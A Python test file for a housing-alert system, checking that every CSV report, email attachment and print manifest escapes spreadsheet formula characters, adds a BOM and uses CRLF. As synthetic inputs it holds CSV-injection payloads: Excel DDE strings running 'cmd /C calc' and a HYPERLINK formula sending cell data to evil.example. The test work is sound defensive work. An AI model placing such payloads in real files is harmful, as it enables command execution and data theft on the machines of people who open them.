"""Issue 18 finding 5: every CSV cautionflow writes keeps a hostile value from the source as text.

A value in the housing database that begins with a formula character (`=cmd|' /C calc'!A0` as a
name, address, area or reference) must come out of every CSV the project writes with OWASP's
leading `'`, so a spreadsheet shows it and never runs it; the file starts with a UTF-8 BOM (Excel
reads the UTF-8 right), its lines end CRLF, and it parses back with the csv module (utf-8-sig) to
the text the register holds. One writer makes them all (`cautionflow.domain.csv_format`); each test
goes through the real path: the source, a sync, the step or command, the file or the email.

Policies: Hexagon 1.2 / Karbon 7.1-7.2 (contractors get the list), Teign Appendix F (the All
Alerts report), Hexagon Appendix 1 (equality), Wandle 5.0 (survey exclusions): the files officers
and contractors open every day are the way in, so the rule is applied to all of them.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from sqlalchemy import create_engine, text

from cautionflow.adapters.database import normalise_url
from cautionflow.adapters.register import Register
from cautionflow.steps import run_deadlines, run_digests, run_letters, run_sync
from tests.deployment import (
    FAST,
    cli,
    deployment,
    governance_config,
    prepare,
    queued,
    write_config,
    write_equality_table,
    write_governance_reports,
)
from tests.support import AS_OF, alert_row

BOM = b"\xef\xbb\xbf"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP CSV Injection

# Hostile values as the source could hold them (synthetic): Excel's DDE payload and friends.
ADDRESS = "=cmd|' /C calc'!A0"
ASSET = "+2+3+cmd|' /C calc'!A0"
AREA = "-2+3+cmd|' /C calc'!A0"  # the register keeps areas in upper case
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
TENANCY = "=2+5+cmd|' /C calc'!A0"
REASON = '=HYPERLINK("http://evil.example/?d="&A1,"Zoë")'


def spreadsheet_rows(data: bytes) -> list[dict[str, str]]:
    """The rows of a CSV meant for a spreadsheet, after checking what every such file must be."""
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    live = [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"
    assert data.startswith(BOM), "no UTF-8 BOM: Excel would read the UTF-8 as its legacy code page"
    assert text.endswith("\r\n") and text.count("\n") == text.count("\r\n"), "lines must end CRLF (RFC 4180)"
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def escaped(value: str) -> str:
    """What the cell holds: the original text after OWASP's single quote."""
    assert value.startswith(DANGEROUS)
    return "'" + value


# --- the All Alerts and overdue reports (the finding) --------------------------------------------------


def test_all_alerts_and_overdue_reports_keep_a_hostile_source_value_as_text(databases, tmp_path):
    # Dover 6.16/6.21: 12 months from 1 Nov 2025, a Sunday, moves to Mon 2 Nov 2026: 21 days overdue.
    databases.write_source([
        alert_row(alert_id="H1", person_name=NAME, address=ADDRESS, asset_ref=ASSET, area=AREA,
                  effective_from="2025-11-01"),
        alert_row(alert_id="H2", person_name="Zoë Example", address="2 Mill Lane", effective_from="2026-06-01"),
    ])
    config = deployment(databases, tmp_path, 25, recipients=[])
    run_sync(config, as_of=AS_OF, run_id="sync")
    summary = run_deadlines(config, as_of=AS_OF, run_id="deadlines")

    report = {r["Alert ID"]: r for r in spreadsheet_rows(Path(summary["reports"]["all_alerts_csv"]).read_bytes())}
    hostile = report["H1"]
    assert hostile["Contact Name"] == escaped(NAME)
    assert hostile["Asset Address"] == escaped(f"{ADDRESS}, EW1 2AB")
    assert hostile["Asset Reference"] == escaped(ASSET)
    assert hostile["Area"] == escaped(AREA.upper())
    assert report["H2"]["Contact Name"] == "Zoë Example"  # UTF-8, read back as written

    overdue_csv = Path(summary["reports"]["overdue_csv"]).read_bytes()
    [overdue] = spreadsheet_rows(overdue_csv)
    assert (overdue["alert_id"], overdue["address"], overdue["asset_ref"], overdue["area"]) == (
        "H1", escaped(ADDRESS), escaped(ASSET), escaped(AREA.upper()))
    assert overdue_csv.endswith(b',"2026-11-02",21\r\n')  # days overdue: a number, sortable, not escaped


# --- the governance reports ----------------------------------------------------------------------------


def test_governance_reports_keep_hostile_source_values_as_text(databases, tmp_path):
    # Karbon: 6-monthly reviews, so unreviewed since 1 May 2025 is stale (more than twice the interval).
    databases.write_source([
        alert_row(alert_id="G1", alert_code="CM", tenancy_ref=TENANCY, area=AREA, asset_ref=ASSET,
                  notify_resident=0, no_notify_reason=REASON, effective_from="2025-05-01"),
    ])
    config = governance_config(databases, tmp_path)
    run_sync(config, as_of=AS_OF, run_id="sync")
    write_equality_table(databases.source_url)  # the equality query's labels come from the source too
    engine = create_engine(normalise_url(databases.source_url))
    with engine.begin() as conn:
        conn.execute(text("UPDATE equality_counts SET group_label = :hostile WHERE group_label = '16-34'"),
                     {"hostile": ADDRESS})
    engine.dispose()
    register = Register(databases.register_url)
    try:
        paths = write_governance_reports(config, register, AS_OF, tmp_path / "reports")
    finally:
        register.dispose()

    [survey] = spreadsheet_rows(paths["survey_exclusions_csv"].read_bytes())
    assert survey == {"tenancy_ref": escaped(TENANCY)}  # Wandle 5.0
    [decision] = spreadsheet_rows(paths["non_notification_csv"].read_bytes())
    assert (decision["tenancy_ref"], decision["asset_ref"], decision["area"], decision["no_notify_reason"]) == (
        escaped(TENANCY), escaped(ASSET), escaped(AREA.upper()), escaped(REASON))
    stale = [r for r in spreadsheet_rows(paths["stale_csv"].read_bytes()) if r["alert_id"] == "G1"]
    assert stale and {(r["area"], r["asset_ref"]) for r in stale} == {(escaped(AREA.upper()), escaped(ASSET))}
    equality = spreadsheet_rows(paths["equality_csv"].read_bytes())  # Hexagon Appendix 1
    assert escaped(ADDRESS) in {r["group"] for r in equality}


# --- the digest attachment -----------------------------------------------------------------------------


def test_digest_attachments_keep_hostile_source_values_as_text(databases, tmp_path, mail_server):
    recipients = [
        {"name": "Acme Repairs", "email": "rota@acme.example", "role": "contractor", "areas": ["NORTH"]},
        {"name": "Night Desk", "email": "ooh@callcentre.example", "role": "out_of_hours"},  # Karbon 7.3
    ]
    config = deployment(databases, tmp_path, mail_server.port, recipients=recipients)
    prepare(databases, config, rows=[
        alert_row(alert_id="H1", area="NORTH", person_name=NAME, address=ADDRESS, asset_ref=ASSET),
    ])
    summary = run_digests(config, as_of=AS_OF, run_id="digests", retry=FAST)
    assert summary["sent"] == 2, summary

    for email, name_shown in (("rota@acme.example", False), ("ooh@callcentre.example", True)):
        [message] = mail_server.handler.messages_for(email)
        [attachment] = list(message.iter_attachments())
        assert attachment.get_content_type() == "text/csv"
        [row] = spreadsheet_rows(attachment.get_payload(decode=True))
        assert (row["Address"], row["Asset reference"], row["Area"]) == (escaped(ADDRESS), escaped(ASSET), "NORTH")
        assert (row.get("Name") == escaped(NAME)) is name_shown  # contractors never see the name


# --- the print manifest --------------------------------------------------------------------------------


def test_the_print_manifest_keeps_a_hostile_name_and_address_as_text(databases, tmp_path, mail_server, capsys):
    config = deployment(databases, tmp_path, mail_server.port, recipients=[], policy="dover",
                        letters={"output_dir": str(tmp_path / "letters")})
    prepare(databases, config, rows=[
        alert_row(alert_id="H1", alert_code="CM", person_name=NAME, address=f"{ADDRESS}, {ASSET}",
                  postcode="CT16 1AA", effective_from="2026-11-20"),
    ])
    assert run_letters(config, as_of=AS_OF, run_id="letters", retry=FAST)["queued"] == 1
    assert queued(databases)["H1"].person_name == NAME  # the register keeps the text as it is

    path = write_config(config, tmp_path)
    code, out = cli(capsys, "letters", "approve", "--config", path, "--batch", AS_OF.isoformat(), "--as-of", AS_OF.isoformat())
    assert code == 0, out
    code, out = cli(capsys, "letters", "dispatch", "--config", path, "--as-of", AS_OF.isoformat())
    assert code == 0, out
    result = json.loads(out.splitlines()[-1])

    [row] = spreadsheet_rows(Path(result["manifest"]).read_bytes())
    assert (row["alert_id"], row["name"], row["address_line_1"], row["address_line_2"], row["address_line_3"]) == (
        "H1", escaped(NAME), escaped(ADDRESS), escaped(ASSET), "CT16 1AA")


# --- compute-deadlines ----------------------------------------------------------------------------------


def test_compute_deadlines_keeps_hostile_cells_as_text_and_adds_a_bom_only_when_asked(tmp_path):
    source = tmp_path / "alerts.csv"
    source.write_text(
        "alert_id,alert_code,effective_from,last_reviewed_on,ends_on,notified_on,appeal_received_on,note\r\n"
        f'"{ADDRESS.replace(chr(34), chr(34) * 2)}",VIP,2026-05-30,,,,,"{NAME}"\r\n'
        "A-2,VIP,-5,,,,,-5\r\n",
        encoding="utf-8",
    )
    command = [sys.executable, "-m", "cautionflow", "compute-deadlines", "--policy", "dover", "--input", str(source),
               "--as-of", "2026-11-23"]
    plain = subprocess.run(command, capture_output=True, timeout=120)
    assert plain.returncode == 0, plain.stderr
    assert not plain.stdout.startswith(BOM)  # a stream for other programs: no BOM by default
    for_excel = subprocess.run([*command, "--bom"], capture_output=True, timeout=120)
    assert for_excel.stdout == BOM + plain.stdout

    first, second = spreadsheet_rows(for_excel.stdout)
    assert (first["alert_id"], first["note"], first["review_due"]) == (escaped(ADDRESS), escaped(NAME), "2027-06-01")
    # Text from the input that reads like a negative number is escaped too (OWASP's rule: it is text).
    assert (second["effective_from"], second["note"]) == ("'-5", "'-5")
    assert second["error"] == "effective_from: '-5' is not a date written YYYY-MM-DD"
